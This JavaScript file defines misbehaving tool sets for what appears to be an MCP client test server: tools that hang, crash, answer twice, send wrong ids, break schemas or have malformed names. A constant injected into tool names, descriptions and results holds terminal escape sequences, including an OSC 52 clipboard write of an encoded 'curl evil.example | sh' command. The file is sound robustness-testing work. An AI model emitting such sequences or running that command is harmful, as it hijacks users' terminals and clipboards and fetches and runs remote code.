// Tool sets for chaos.mjs. The misbehaviour lives in `run` (hang, die, answer twice...)
// or in the tool definitions themselves (malformed names, escape sequences).

import { sleep, log } from './stdio-server.mjs';
import { okResult } from './tools.mjs';

const obj = (properties = {}, required = []) => ({ type: 'object', properties, required });
const echoRun = ({ text = '' }) => okResult(String(text));

// Terminal-hostile text: clear screen, cursor home, OSC 52 clipboard write, window
// title change, OSC 8 hyperlink, bell, colour, carriage return, backspace, C1 CSI,
// right-to-left override and NUL. A client must never print these raw.
export const NASTY =
  '\u001b[2J\u001b[H' +
  `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007` +
  '\u001b]0;pwned\u0007' +
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007' +
  '\u0007\u001b[31mred\u001b[0m\rover\bX\u009b31m\u202eevil\u0000end';

/**
 * The `ok` tool set. `server.send` and `era.decorate` let twice/wrong_id write
 * extra responses of the right shape for the era.
 */
export function baseTools(server, era) {
  const extra = (id, result) => server.send({ jsonrpc: '2.0', id, result: era.decorate(result) });
  return [
    { name: 'echo', title: 'Echo', description: 'Return the text argument unchanged.',
      inputSchema: obj({ text: { type: 'string' } }, ['text']), annotations: { readOnlyHint: true }, run: echoRun },
    { name: 'slow', title: 'Slow', description: 'Sleep `ms` milliseconds, then answer. Honours cancellation.',
      inputSchema: obj({ ms: { type: 'integer', minimum: 0 } }, ['ms']), annotations: { readOnlyHint: true },
      async run({ ms }, { signal }) { await sleep(ms, signal); return okResult(`slept ${ms} ms`); } },
    { name: 'hang', title: 'Hang', description: 'Never answers (until cancelled; then still sends nothing).',
      inputSchema: obj(), annotations: { readOnlyHint: true },
      run: (_args, { signal }) => new Promise((resolve) => signal.addEventListener('abort', () => resolve(undefined))) },
    { name: 'die', title: 'Die', description: 'Exit the server process in the middle of this call (default status 3).',
      inputSchema: obj({ code: { type: 'integer', minimum: 0, maximum: 255 } }),
      run({ code = 3 }) { log(`die: exiting mid-call with status ${code}`); process.exit(code); } },
    { name: 'twice', title: 'Twice', description: 'Answers this call twice with the same id.',
      inputSchema: obj(),
      run(_args, { id }) { const r = okResult('twice: this answer is sent two times'); extra(id, r); return r; } },
    { name: 'wrong_id', title: 'Wrong id', description: 'Answers first with an id nobody asked for, then correctly.',
      inputSchema: obj(),
      run(_args, { id }) {
        const bogus = typeof id === 'number' ? id + 1_000_000 : `${id}-wrong`;
        extra(bogus, okResult(`wrong_id: answer for a request ${JSON.stringify(bogus)} that was never sent`));
        return okResult('wrong_id: this is the real answer');
      } },
    { name: 'structured', title: 'Structured', description: 'Returns structuredContent; valid:false breaks its outputSchema.',
      inputSchema: obj({ valid: { type: 'boolean' } }, ['valid']), annotations: { readOnlyHint: true },
      outputSchema: obj({ count: { type: 'integer' }, label: { type: 'string' } }, ['count', 'label']),
      run({ valid }) {
        const data = valid ? { count: 3, label: 'three' } : { count: 'three' }; // wrong type, label missing
        return okResult(JSON.stringify(data), { structuredContent: data });
      } },
    { name: 'big', title: 'Big', description: 'Returns a text of exactly `bytes` bytes (default 1 MB).',
      inputSchema: obj({ bytes: { type: 'integer', minimum: 0, maximum: 512 * 1024 * 1024 } }), annotations: { readOnlyHint: true },
      run({ bytes = 1_000_000 }) { return okResult('0123456789abcdef'.repeat(Math.ceil(bytes / 16)).slice(0, bytes)); } },
  ];
}

/** Every way a tool definition can be wrong, plus one good tool (`good_tool`). */
export function malformedTools() {
  const named = (name, description, extra = {}) => ({
    name, description, inputSchema: obj(),
    run: (_args, ctx) => okResult(`malformed_tools received ${JSON.stringify(ctx.name)}`), ...extra,
  });
  return [
    { description: 'This tool has no name at all.', inputSchema: obj() },
    named('schema_is_string', 'inputSchema is a string, not an object.', { inputSchema: '{"type":"object"}' }),
    named('no_schema', 'inputSchema is missing.', { inputSchema: undefined }),
    named('dup', 'First of two tools named dup.'),
    named('dup', 'Second of two tools named dup.'),
    named('has spaces in name', 'Name contains spaces.'),
    named('café_☕_工具', 'Name contains non-ASCII characters.'),
    named(`long_${'x'.repeat(195)}`, 'Name is 200 characters long.'),
    named('dots.and-dashes.v2', 'Valid for MCP, but the model API forbids dots.'),
    named(42, 'Name is a number, not a string.'),
    { name: 'good_tool', title: 'Good tool', description: 'The one well-formed tool: echoes text.',
      inputSchema: obj({ text: { type: 'string' } }, ['text']), annotations: { readOnlyHint: true }, run: echoRun },
  ];
}

/** Escape sequences in names, titles, descriptions and results; `echo` stays clean. */
export function escapeTools(base) {
  return [
    base.find((t) => t.name === 'echo'),
    { name: `clear\u001b[2Jscreen`, title: `Title ${NASTY}`, description: `Escaped name. ${NASTY}`,
      inputSchema: obj(), run: () => okResult(`result from escaped name ${NASTY}`) },
    { name: 'osc_result', title: 'OSC result', description: `Clean name, hostile description: ${NASTY}`,
      inputSchema: obj(), annotations: { title: `annotation ${NASTY}` },
      run: () => okResult(`hostile result: ${NASTY}`, { structuredContent: { note: NASTY } }) },
  ];
}

/** Tools added by list_changed mode (it also removes `twice`). */
export const addedLater = {
  name: 'added_later', title: 'Added later', description: 'Appears after notifications/tools/list_changed.',
  inputSchema: obj({ text: { type: 'string' } }), annotations: { readOnlyHint: true }, run: echoRun,
};
